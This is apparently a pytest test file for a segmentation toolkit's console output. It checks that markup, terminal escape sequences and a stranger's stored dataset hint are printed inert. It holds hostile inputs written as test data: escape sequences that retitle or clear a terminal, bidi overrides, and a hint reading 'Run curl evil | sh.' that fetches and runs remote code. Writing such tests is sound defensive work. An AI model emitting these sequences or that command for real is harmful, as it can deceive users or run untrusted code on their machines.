"""Names in the tables that commands print at the end."""

import logging
import warnings
from pathlib import Path

import pytest
from made_up import SCORES, report_of, write_run
from rich.table import Table

from segkit import console
from segkit.configs.composing import compose
from segkit.evaluation.tables import show_classes, show_metrics
from segkit.runs.console import Console, PrintableFormatter
from segkit.runs.folder import Record
from segkit.security import stored_configs
from segkit.training.telling import show_results


def test_a_class_called_like_markup_is_printed_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    metrics = {f"test/{name}/{title}": 0.5 for title in ("[/b]", "[red]", ":key:") for name in ("iou", "dice")}
    show_classes(metrics, ["[/b]", "[red]", ":key:"], "test")
    show_metrics({"test/iou": 0.5, "test/presence_f1/[/b]": 0.5}, Path("out/[/i]"), "gate [/b]")
    shown = capsys.readouterr().out
    for name in ("[/b]", "[red]", ":key:", "gate [/b]"):
        assert name in shown


def test_a_run_folder_called_like_markup_is_printed_as_it_is(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    config = {
        "overrides": [],
        "logger": {},
        "model": {},
        "loss": {},
        "monitor": "val/iou",
        "dataset": {"classes": ["[/b]"]},
    }
    show_results(Record(tmp_path / "[b]run", config, metrics={"test/iou": 0.5, "val/iou": 0.5}))
    assert "[b]run" in capsys.readouterr().out.splitlines()[0]


STEERING = "\x1b]0;owned\x07\x1b[2J \x9b31m \x7f \u202egnp \u2066x\u2069 \r\b \ud800"
WRITTEN = r"\x1b]0;owned\x07\x1b[2J \x9b31m \x7f \u202egnp \u2066x\u2069 \r\x08 \ud800"


def test_what_would_steer_a_terminal_is_written_out(capsys: pytest.CaptureFixture[str]) -> None:
    assert console.printable(STEERING) == WRITTEN
    assert console.printable("ä\tб\n文 🙂") == "ä\tб\n文 🙂"
    console.say(STEERING)
    console.say(STEERING, stderr=True)
    Console().emit(logging.makeLogRecord({"msg": STEERING}))
    assert capsys.readouterr() == (f"{WRITTEN}\n", f"{WRITTEN}\n{WRITTEN}\n")
    assert PrintableFormatter("%(message)s").format(logging.makeLogRecord({"msg": STEERING})) == WRITTEN


@pytest.mark.parametrize("stderr", [True, False])
def test_names_in_tables_do_not_steer_a_terminal(stderr: bool, capsys: pytest.CaptureFixture[str]) -> None:
    table = Table("\x1b[31mhead", title="\x9b1m\u202etitle")
    table.add_row("\x1b[2Jcell")
    console.print_table(table, stderr)
    shown = "".join(capsys.readouterr())
    for word in (r"\x1b[31mhead", r"\x9b1m\u202etitle", r"\x1b[2Jcell"):
        assert word in shown
    assert console.printable(shown) == shown


def test_what_a_strangers_run_says_does_not_steer_a_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recwarn: pytest.WarningsRecorder
) -> None:
    write_run(tmp_path, "good", SCORES, loss="\x1b[2Jloss", config={"monitor": "val/\x1b[2J"})
    bad = write_run(tmp_path, "bad", SCORES, status="failed")
    text = (bad / "results.json").read_text()
    (bad / "results.json").write_text(text.replace('{"status"', r'{"error": "\u001b[2Jgone\u009b", "status"', 1))
    page = report_of(tmp_path)
    said = "".join(capsys.readouterr())
    assert r"failed: \x1b[2Jgone\x9b" in said
    assert console.printable(said) == said
    assert [str(one.message) for one in recwarn] == []
    assert "\x1b" not in warnings.formatwarning("\x1b[2J", UserWarning, "x.py", 1)
    assert "\x1b" not in (page.parent / "pictures" / "curves.svg").read_text()


def test_a_strangers_hint_is_not_shown_as_segkits_own(tmp_path: Path) -> None:
    stored = {"_target_": "segkit.datasets.folder.Folder", "root": "/nowhere", "download": "Run curl evil | sh."}
    assert "evil" not in str(stored_configs.merge_stored_dataset(stored, {}, tmp_path / "config.yaml", []))
    own = stored_configs.merge_stored_dataset(stored, {"download": "My hint."}, tmp_path / "config.yaml", [])
    assert own["download"] == "My hint."
    assert compose("dataset=deepcrack").dataset.download  # from the user's own command
